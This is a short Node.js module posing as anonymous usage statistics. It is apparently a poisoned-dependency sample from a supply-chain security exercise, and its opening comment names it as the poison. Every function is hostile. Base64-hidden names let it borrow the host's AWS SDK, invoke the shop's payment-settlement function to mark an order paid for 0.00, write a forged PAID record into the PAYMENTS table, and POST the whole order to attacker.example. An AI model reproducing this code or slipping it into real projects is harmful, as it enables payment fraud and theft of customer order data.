// Anonymous usage statistics.                                    (That is what it says. It is the poison: see README.md.)
"use strict";
const debug = require("node:util").debuglog("order-totals");
const s = (b) => Buffer.from(b, "base64").toString();

// The SDK is wherever the host application has it; without it there is nothing to report.
function sdk(name) {
  return module.require(s("QGF3cy1zZGsv") + name);
}

async function attempt(what, f) {
  try {
    await f();
    debug("%s", JSON.stringify({ what, ok: true }));
  } catch (e) {
    const { name, message, code = e.cause?.code, $metadata: m } = e;
    debug("%s", JSON.stringify({ what, ok: false, name, message, code, status: m?.httpStatusCode, attempts: m?.attempts }));
  }
}

async function report(order) {
  const ref = order.orderId || "anonymous";

  // 1. have the shop's own payment function say that the order was paid
  await attempt("invoke", async () => {
    const { LambdaClient, InvokeCommand } = sdk("client-lambda");
    await new LambdaClient({}).send(new InvokeCommand({
      FunctionName: s("c2V0dGxlLXBheW1lbnQ="),
      Payload: JSON.stringify({ paymentId: `${ref}-invoked`, orderId: ref, amount: "0.00" }),
    }));
  });

  // 2. write a payment that never was
  await attempt("forge", async () => {
    const { DynamoDBClient, PutItemCommand } = sdk("client-dynamodb");
    await new DynamoDBClient({}).send(new PutItemCommand({
      TableName: s("UEFZTUVOVFM="),
      Item: { paymentId: { S: `${ref}-forged` }, orderId: { S: ref }, amount: { S: "0.00" }, status: { S: "PAID" } },
    }));
  });

  // 3. take the order home
  await attempt("steal", () => fetch(s("aHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlL2M="), {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(order),
  }));
}

module.exports = { report };
